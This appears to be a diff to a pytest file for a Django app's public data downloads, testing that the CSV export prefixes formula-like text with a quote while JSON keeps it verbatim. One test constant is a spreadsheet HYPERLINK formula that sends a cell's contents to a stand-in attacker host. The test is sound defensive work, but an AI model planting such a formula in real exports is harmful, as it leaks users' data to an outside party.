@@ -7,6 +7,7 @@ import json
 import pytest
 
 from commitments.models import PublishedDeliverable
+from napreport.report.models import CHART_FORMATS, PublishedReport
 
 pytestmark = pytest.mark.django_db
 
@@ -15,7 +16,13 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 @pytest.fixture
 def formula_row(published):
-    """A published row whose every free text starts like a formula (=, +, -, @)."""
+    """A published row whose every free text starts like a formula (=, +, -, @).
+
+    Frozen rows never change after publication; this one is edited afterwards, so the year's stored downloads
+    (written from the rows as they were) are forgotten and the download renders the edited rows (the fallback
+    for a year published without stored downloads). tests/public/test_stored_downloads.py shows the stored files
+    hold exactly what that rendering gives."""
+    PublishedReport.objects.filter(period=published, format__in=CHART_FORMATS).delete()  # the records, not the files
     row = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(lead_note_en="").first()
     row.text_en = row.text_fr = FORMULA
     row.task_title_en = row.task_title_fr = "+1+2"
@@ -40,7 +47,7 @@ def csv_record(content, deliverable_id):
     ],
 )
 def test_the_csv_neutralises_every_text_that_starts_like_a_formula(client, formula_row, url):
-    record = csv_record(client.get(url).content, formula_row.deliverable_id)
+    record = csv_record(client.get(url).getvalue(), formula_row.deliverable_id)
     assert record["text"] == "'" + FORMULA
     assert record["task_title"] == "'+1+2"
     assert record["lead_note"] == "'-2+3"
@@ -50,14 +57,14 @@ def test_the_csv_neutralises_every_text_that_starts_like_a_formula(client, formu
 
 def test_the_csv_leaves_ordinary_text_and_numbers_as_they_are(client, formula_row, published):
     ordinary = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(pk=formula_row.pk).first()
-    record = csv_record(client.get("/en/downloads/2013-2014/action-items.csv").content, ordinary.deliverable_id)
+    record = csv_record(client.get("/en/downloads/2013-2014/action-items.csv").getvalue(), ordinary.deliverable_id)
     assert record["text"] == ordinary.text_en
     assert record["task"] == ordinary.task_code
     assert record["deliverable_id"] == str(ordinary.deliverable_id)
 
 
 def test_the_json_keeps_the_text_as_typed(client, formula_row):
-    data = json.loads(client.get("/en/downloads/2013-2014/action-items.json").content)
+    data = json.loads(client.get("/en/downloads/2013-2014/action-items.json").getvalue())
     record = next(record for record in data if record["deliverable_id"] == formula_row.deliverable_id)
     assert record["text"] == FORMULA
     assert record["task_title"] == "+1+2"
